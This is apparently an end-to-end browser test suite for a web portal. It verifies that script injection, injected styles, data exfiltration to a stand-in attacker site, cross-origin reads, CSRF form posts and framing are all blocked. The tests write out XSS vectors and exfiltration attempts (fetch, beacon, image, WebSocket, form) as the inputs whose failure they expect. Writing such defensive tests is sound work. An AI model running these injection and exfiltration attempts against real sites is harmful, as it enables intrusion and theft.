import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { beSignedIn } from '../browser/member.js';
import { meet, type Person } from '../browser/person.js';
import { openPortal, type Portal } from '../browser/portal.js';
import { type AttackersSite, openAttackersSite } from '../support/attackers-site.js';
import { startBrowser } from '../support/browser.js';

describe('the site in a browser', () => {
  let browser: Browser;
  let portal: Portal;
  let attacker: AttackersSite;
  let person: Person;
  let page: Page;
  beforeAll(async () => {
    browser = await startBrowser();
    portal = await openPortal();
    attacker = await openAttackersSite();
  }, 200_000);
  afterAll(async () => {
    await attacker.close();
    await browser.close();
    await portal.stop();
  }, 60_000);
  beforeEach(async () => {
    person = await meet(browser, portal);
    page = person.page;
  });
  afterEach(async () => {
    // What the browser refuses here it also says, so these visits end without looking at that.
    await person.visitor.context.close();
  });

  describe('lets nothing run that was brought into the page', () => {
    beforeEach(async () => {
      await page.goto('/sign-in');
      await page.getByRole('heading', { level: 1 }).waitFor();
    });

    it.each([
      ['innerHTML', `document.body.innerHTML = '<b>x</b>'`],
      ['outerHTML', `document.querySelector('h1').outerHTML = '<b>x</b>'`],
      ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
      ['document.write', `document.write('<b>x</b>')`],
      ['DOMParser', `new DOMParser().parseFromString('<b>x</b>', 'text/html')`],
      ['srcdoc', `document.createElement('iframe').srcdoc = '<b>x</b>'`],
      ['the text of a script', `document.createElement('script').text = 'window.ran = 1'`],
      ['the address of a script', `document.createElement('script').src = '/assets/x.js'`],
      ['the address of a worker', `new Worker('/assets/x.js')`],
      ['eval', `(0, eval)('window.ran = 1')`],
      ['Function', `new Function('window.ran = 1')()`],
      ['a timer made of text', `setTimeout('window.ran = 1', 0)`],
      ['a policy of another name', `trustedTypes.createPolicy('other', { createHTML: (text) => text })`],
      ['a policy for everything', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
    ])('refuses %s', async (_, work) => {
      // Later, since what a debugger evaluates itself may do more.
      const outcome = await page.evaluate<string>(`
        new Promise((resolve) => setTimeout(() => {
          try { ${work}; resolve('was taken'); } catch (error) { resolve(error.name); }
        }, 0))`);
      expect(outcome).toMatch(/TypeError|EvalError/);
      expect(await page.evaluate('window.ran')).toBeUndefined();
    });

    it.each([
      [
        'an inline script',
        `const script = document.createElement('script');
         script.append('window.ran = 1');
         document.head.append(script);`,
      ],
      [
        'a handler in an attribute',
        `const button = document.createElement('button');
         try { button.setAttribute('onclick', 'window.ran = 1'); } catch {}
         document.body.append(button);
         button.click();`,
      ],
      [
        'a link to a script',
        `const link = document.createElement('a');
         link.href = 'javascript:window.ran = 1';
         document.body.append(link);
         link.click();`,
      ],
      [
        'a script with a nonce that was guessed',
        `const script = document.createElement('script');
         script.nonce = '0'.repeat(32);
         script.append('window.ran = 1');
         document.head.append(script);`,
      ],
    ])('does not run %s', async (_, work) => {
      await page.evaluate(`(() => { try { ${work} } catch {} })()`);
      await page.waitForTimeout(200);
      expect(await page.evaluate('window.ran')).toBeUndefined();
    });

    it('applies no style that was brought in, and needs no style attribute itself', async () => {
      const colour = () => page.evaluate<string>(`getComputedStyle(document.querySelector('h1')).color`);
      const before = await colour();
      await page.evaluate(`(() => {
        const style = document.createElement('style');
        style.append('h1 { color: rgb(1, 2, 3) !important; }');
        document.head.append(style);
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = 'data:text/css,h1{color:rgb(1,2,3)}';
        document.head.append(link);
        document.querySelector('h1').setAttribute('style', 'color: rgb(1, 2, 3)');
      })()`);
      await page.waitForTimeout(200);
      expect(await colour()).toBe(before);
      await page.reload();
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.locator('[style]').count()).toBe(0);
    });

    it('sends nothing to anybody else', async () => {
      const before = attacker.asked.length;
      const outcome = await page.evaluate<string>(`(async () => {
        const there = ${JSON.stringify(attacker.stranger)};
        const tries = [
          fetch(there + '/fetch', { mode: 'no-cors' }).then(() => 'fetch', () => ''),
          new Promise((resolve) => {
            const image = new Image();
            image.onload = image.onerror = () => resolve('');
            image.src = there + '/image';
          }),
          Promise.resolve(navigator.sendBeacon(there + '/beacon', 'x')).then(() => '', () => ''),
          new Promise((resolve) => {
            const frame = document.createElement('iframe');
            frame.src = there + '/frame';
            document.body.append(frame);
            setTimeout(() => resolve(''), 300);
          }),
          new Promise((resolve) => {
            const socket = (() => { try { return new WebSocket(there.replace('http', 'ws') + '/socket'); } catch { return null; } })();
            if (socket === null) resolve('');
            else socket.onerror = () => resolve('');
          }),
        ];
        const base = document.createElement('base');
        base.href = there;
        document.head.append(base);
        const form = document.createElement('form');
        form.action = there + '/form';
        form.method = 'post';
        document.body.append(form);
        form.submit();
        return (await Promise.all(tries)).join('') + new URL('x', document.baseURI).origin;
      })()`);
      expect(outcome).toBe(portal.origin);
      await page.waitForTimeout(300);
      expect(attacker.asked.slice(before)).toEqual([]);
    });
  });

  describe.each(['sibling', 'stranger'] as const)('gives nothing to a page of a %s', (kind) => {
    let member: Awaited<ReturnType<Portal['member']>>;
    beforeEach(async () => {
      member = await portal.member('arrived');
      await beSignedIn(person, member);
      await page.goto(attacker[kind]);
    });

    /** What a script of the attacker's page sees of a request that carries the cookies of its visitor. */
    const ask = (path: string, init: Readonly<Record<string, unknown>> = {}): Promise<string> =>
      page.evaluate<string>(`
        fetch(${JSON.stringify(portal.origin + path)}, ${JSON.stringify({ credentials: 'include', ...init })}).then(
          async (response) => response.type + ' ' + (await response.text()),
          (error) => error.name,
        )`);

    it('to read', async () => {
      for (const path of ['/api/session', '/api/card', '/api/csrf', '/', '/home', '/openapi.json']) {
        expect(await ask(path)).toBe('TypeError');
        expect(await ask(path, { mode: 'no-cors' })).toMatch(/^(TypeError|opaque )$/);
      }
    });

    it('to do: the session lives on, no code is sent, nothing has changed', async () => {
      const since = await portal.now();
      const text = { 'content-type': 'text/plain' };
      const json = { 'content-type': 'application/json', 'x-csrf-token': 'guessed' };
      for (const mode of ['cors', 'no-cors']) {
        await ask('/api/card/activation/code', { method: 'POST', mode, headers: text, body: '{}' });
        await ask('/api/sign-in', { method: 'POST', mode, headers: text, body: '{"loginId":"a","password":"b"}' });
      }
      expect(await ask('/api/session', { method: 'DELETE', headers: json })).toBe('TypeError');
      expect(await ask('/api/sessions', { method: 'DELETE', headers: json })).toBe('TypeError');
      for (const enctype of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
        await page.goto(attacker[kind]);
        await Promise.all([
          page.waitForURL(`${portal.origin}/**`),
          page.evaluate(`(() => {
            const form = document.createElement('form');
            Object.assign(form, {
              method: 'post',
              enctype: ${JSON.stringify(enctype)},
              action: ${JSON.stringify(`${portal.origin}/api/card/activation/code`)},
            });
            document.body.append(form);
            form.submit();
          })()`),
        ]);
        expect(await page.evaluate<string>('document.body.textContent')).toMatch(
          /request\.(wrong-origin|unsupported-type)/,
        );
      }
      await page.goto('/card');
      await page.getByText(person.t('card', 'todo.arrived.title')).waitFor();
      expect(await messagesSince(since, member.phone)).toEqual([]);
    });

    it('to frame, to hold as a window, or to load as something else', async () => {
      await page.evaluate(`(() => {
        const frame = document.createElement('iframe');
        frame.src = ${JSON.stringify(`${portal.origin}/card`)};
        document.body.append(frame);
      })()`);
      await page.waitForTimeout(1_000);
      const framed = page.frames().filter((frame) => frame !== page.mainFrame());
      for (const frame of framed) expect(await frame.content()).not.toContain('id="app"');

      const loaded = await page.evaluate<string[]>(`
        Promise.all(['img', 'script', 'link'].map((name) => new Promise((resolve) => {
          const element = document.createElement(name);
          element.onload = () => resolve(name);
          element.onerror = () => resolve('');
          if (name === 'link') element.rel = 'stylesheet';
          element[name === 'link' ? 'href' : 'src'] = ${JSON.stringify(portal.origin)} + (name === 'img' ? '/gate.svg' : '/api/session');
          document.head.append(element);
        })))`);
      expect(loaded).toEqual(['', '', '']);

      const [opened] = await Promise.all([
        page.context().waitForEvent('page'),
        page.evaluate(`void (window.held = window.open(${JSON.stringify(`${portal.origin}/card`)}))`),
      ]);
      await opened.waitForLoadState();
      // Neither has a hand on the other.
      expect(await opened.evaluate('window.opener')).toBeNull();
      expect(await page.evaluate('window.held.closed || window.held.length === 0')).toBe(true);
      expect(
        await page.evaluate(`(() => { try { return String(window.held.document); } catch { return ''; } })()`),
      ).not.toContain('HTMLDocument');
    });
  });

  async function messagesSince(since: string, to: string): Promise<readonly unknown[]> {
    const query = new URLSearchParams({ since, to, channel: 'sms' }).toString();
    const response = await fetch(new URL(`/rehearsal/inbox?${query}`, portal.origin), {
      headers: { accept: 'application/json' },
    });
    return ((await response.json()) as { messages: unknown[] }).messages;
  }
});
